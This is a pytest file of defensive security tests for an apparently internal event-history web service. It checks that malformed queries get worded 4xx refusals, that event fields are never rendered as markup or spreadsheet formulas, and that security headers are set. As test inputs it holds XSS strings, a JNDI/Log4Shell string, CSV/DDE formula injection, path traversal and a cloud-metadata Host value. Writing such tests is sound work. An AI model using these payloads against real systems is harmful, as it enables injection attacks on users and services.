"""Bad input: refused in words a person can act on, never answered with 500, never run."""

import json
import re
import socket
from contextlib import closing
from html.parser import HTMLParser

import httpx2
import pytest
import schemathesis
from hypothesis import HealthCheck, Phase, given, settings
from schemathesis.core.result import Ok

from opstrail_history.app import CONTENT_POLICY
from tests.support.history import A, a_record, event_in, event_of, served

PATHS = ("/api/v1/events", "/api/v1/facets", "/api/v1/export")
BOMBS = [
    ("q", "a" * 10_240),
    ("q", " ".join(f"w{at}" for at in range(300))),
    ("q", "*"),
    ("q", "*stack"),
    ("q", "name:*"),
    ("q", "?a"),
    ("q", " ".join(f"w{at}*" for at in range(20))),
    ("q", "readOnly:maybe"),
    ("name", "*"),
    ("name", "!*a"),
    ("name", "x" * 600),
    ("sourceIP", "10.0.0.0/8/8"),
    ("readOnly", "true"),
    ("since", "now-1d/d"),
    ("since", "9" * 400),
    ("until", "0000-00-00"),
    ("from", "10000000"),
    ("size", "100000000"),
    ("size", "1e9"),
    ("order", "_script"),
    ("cursor", "A" * 60_000),
    ("cursor", "../../etc"),
    ("format", "exe"),
    ("query", '{"match_all":{}}'),
]


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(("name", "value"), BOMBS, ids=lambda value: value[:20])
def test_bombs_are_refused_in_words(sample, path, name, value):
    answer = sample.get(path, params={name: value})

    assert answer.status_code in {400, 422}, answer.text[:300]
    assert answer.json()["message"]


def test_more_parts_than_the_store_takes_are_refused_in_words(sample):
    words = " ".join(f"word{at}" for at in range(20))
    answer = sample.get("/api/v1/events", params=[
        ("q", words), *(("resource", f"v{at}*") for at in range(100))
    ])  # fmt: skip
    most = sample.get("/api/v1/facets", params={"q": words})

    assert (400, 200) == (answer.status_code, most.status_code)
    assert "too many parts" in answer.json()["message"]


def test_ten_thousand_clauses_are_refused(sample):
    # 3,000 are what one request line holds; longer ones the server itself refuses.
    some, all_of_them = ("&".join(f"name=n{at}" for at in range(most)) for most in (3_000, 10_000))

    assert 400 == sample.get(f"/api/v1/events?{some}").status_code
    assert " 400 " in _first_line(str(sample.base_url), f"/api/v1/events?{all_of_them}")


def _first_line(url, path):
    """The first line of an answer; the client itself refuses to send as much."""
    port = int(url.rpartition(":")[2].strip("/"))
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
        return connection.recv(200).decode().partition("\r\n")[0]


@pytest.mark.parametrize(
    "text", ["/(a+)+$/", "{}[]()^~:\\/", "a AND OR NOT", '"', "\0", "\u202e", "'; --"]
)
def test_what_means_something_elsewhere_is_a_word_here(sample, text):
    answer = sample.get("/api/v1/events", params={"q": text})

    assert 200 == answer.status_code
    assert 0 == answer.json()["total"] or text == '"'


NASTY = {
    "userAgent": "<script>alert(1)</script>${jndi:ldap://x/a}\u202egpj.exe\u0007",
    "eventName": "<img src=x onerror=alert(1)>",
    "errorMessage": "</pre><script>alert(2)</script>",
    "requestParameters": {
        "bucketName": '=HYPERLINK("http://x","y")',
        "k": "'\"><svg onload=alert(3)>",
    },
}


@pytest.fixture
def nasty(store):
    user = a_record("x", "x")["userIdentity"] | {"userName": '=cmd|"/c calc"!A0', "arn": "@SUM(1)"}
    store.put([event_of(a_record("nasty", "2024-01-02T00:00:00Z", userIdentity=user, **NASTY))])
    with served(store.settings()) as url, httpx2.Client(base_url=url, timeout=30) as client:
        yield client


class Markup(HTMLParser):
    """The elements and attributes of a page, as a browser has them."""

    def __init__(self, text):
        super().__init__()
        self.scripts, self.handlers, self.tags = [], [], set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on") or name == "style"]
        if tag == "script":
            self.scripts.append(dict(attrs).get("src"))


def test_nothing_of_an_event_becomes_markup(nasty):
    for path in (
        f"/?all=1&event={A}/nasty",
        f"/details?event={A}/nasty",
        "/?q=%3Cscript%3E&name=%22%3E%3Cimg",
    ):
        text = nasty.get(path).text
        markup = Markup(text)
        assert {"/static/theme.js", "/static/history.js"} >= set(markup.scripts)
        assert [] == markup.handlers
        assert not {"img", "iframe", "object", "base"} & markup.tags
        assert "\u202e" not in re.sub(r'data-exact="[^"]*"', "", text)
    assert "⟨U+202E⟩" in nasty.get(f"/details?event={A}/nasty").text


def test_no_cell_of_a_download_is_a_formula(nasty):
    text = nasty.get("/api/v1/export", params={"format": "csv"}).text

    assert "\"'=cmd" in text
    assert not re.search(r'(^|,)"[=+@-]', text, re.MULTILINE)


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/api/v1/files?size=0", 422),
        ("/api/v1/dead-letters?waiting=perhaps", 422),
        ("/api/v1/event", 422),
        ("/api/v1/dead-letters?accounts=1", 400),
        ("/api/v1/files?since=2h", 400),
        ("/api/v1/nothing", 404),
        ("/api/v1/audit", 404),
    ],
)
def test_whatever_is_refused_is_refused_in_words(sample, path, status):
    answer = sample.get(path)

    assert status == answer.status_code
    assert answer.json()["message"]


def test_a_record_that_is_nested_deep_is_shown_as_its_text(store):
    deep = '{"k":' * 400 + "1" + "}" * 400  # ingest takes 500 levels at most
    raw = json.dumps(a_record("deep", "2024-01-02T00:00:00Z", requestParameters="DEEP"))
    store.put([event_in(raw.replace('"DEEP"', deep).encode())])
    with served(store.settings()) as url, httpx2.Client(base_url=url, timeout=30) as client:
        found = client.get("/api/v1/event", params={"id": f"{A}/deep"}).json()
        others = [
            client.get("/api/v1/events"), client.get("/", params={"event": f"{A}/deep"}),
            client.get("/api/v1/event/related", params={"id": f"{A}/deep"}),
            client.get("/api/v1/export", params={"format": "csv"}),
        ]  # fmt: skip

    assert (None, True) == (found["record"], deep in found["raw"])
    assert [200] * 4 == [answer.status_code for answer in others]


def test_callers_who_go_before_the_first_byte_leave_room_for_others(store):
    with served(store.settings(streams_at_once=2)) as url:
        for path in ("/api/v1/export", "/api/v1/live") * 5:
            address = ("127.0.0.1", int(url.rpartition(":")[2]))
            with socket.create_connection(address) as connection:
                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
        # However long it takes until the last of them is noticed.
        while httpx2.get(f"{url}/api/v1/export").status_code == 429:
            pass


def test_every_answer_forbids_what_it_does_not_need(sample):
    for path in (
        "/?all=1",
        "/api/v1/events",
        "/api/v1/events?q=*",
        "/static/history.js",
        "/nope",
        "/sign-in",
    ):
        headers = sample.get(path).headers
        assert CONTENT_POLICY == headers["content-security-policy"]
        assert ("nosniff", "DENY") == (
            headers["x-content-type-options"], headers["x-frame-options"]
        )  # fmt: skip
        assert "access-control-allow-origin" not in headers
    download = sample.get("/api/v1/export").headers
    assert download["content-disposition"].startswith("attachment")
    assert "no-store" == download["cache-control"]


def test_no_page_names_another_host_or_holds_a_script(sample):
    for path in ("/?all=1", "/sign-in", "/static/history.css", "/static/history.js"):
        text = sample.get(path).text
        assert not re.search(r"(src|href|url\()\s*=?\s*[\"']?(https?:)?//", text)
        assert not re.search(r"<script(?![^>]*src=)", text)
        assert not re.search(r"<[^>]+\sstyle=|\son[a-z]+=", text)


def test_another_name_for_this_machine_is_refused(sample):
    for host in ("evil.example", "evil.example:80", "169.254.169.254"):
        answer = sample.get("/api/v1/events", headers={"Host": host})
        assert 421 == answer.status_code


def test_without_opensearch_it_says_so_and_lives_on(store, tmp_path):
    with closing(socket.socket()) as unused:
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
        told = store.settings().model_dump()
        told["opensearch"]["url"] = f"http://127.0.0.1:{port}"
        settings_away = type(store.settings()).model_validate(told)
        with served(settings_away) as url, httpx2.Client(base_url=url, timeout=30) as client:
            for path in (
                *PATHS,
                "/api/v1/files",
                "/api/v1/dead-letters",
                "/api/v1/event?id=a",
                "/?all=1",
            ):
                answer = client.get(path)
                assert 503 == answer.status_code
                assert "does not answer" in answer.text
            aws = client.post("/", content=b"{}", headers={"X-Amz-Target": "x.LookupEvents"})
            assert (503, "ServiceUnavailable") == (aws.status_code, aws.json()["__type"])
            assert 200 == client.get("/api/v1/access").status_code


def test_a_store_that_is_not_set_up_says_what_to_do(opensearch_url, store):
    told = store.settings().model_dump()
    told["store"]["index_prefix"] = f"{store.prefix}-none"
    with served(type(store.settings()).model_validate(told)) as url:
        answer = httpx2.get(f"{url}/api/v1/events")

    assert 503 == answer.status_code
    assert "opstrail store setup" in answer.json()["message"]


@pytest.mark.timeout(900)
def test_schemathesis_finds_no_5xx(sample_url, figure):
    """2,000 cases made from the published description, good and bad ones."""
    schema = schemathesis.openapi.from_url(f"{sample_url}/api/v1/openapi.json")
    seen: dict[int, int] = {}
    operations = [
        one.ok()
        for one in schema.get_all_operations()
        if isinstance(one, Ok) and one.ok().path != "/api/v1/live"
    ]
    # Operations with few parameters have few different cases.
    each = 330
    for operation in operations:

        @settings(
            max_examples=each, deadline=None, database=None, phases=[Phase.generate],
            suppress_health_check=list(HealthCheck),
        )  # fmt: skip
        @given(case=operation.as_strategy())
        def run(case: schemathesis.Case) -> None:
            status = case.call(base_url=sample_url, timeout=60).status_code
            seen[status] = seen.get(status, 0) + 1
            assert status < 500, (status, case.as_curl_command())

        run()
    figure("schemathesis cases without a 5xx", f"{sum(seen.values())}, {json.dumps(seen)}", "2,000")
    assert sum(seen.values()) >= 2_000
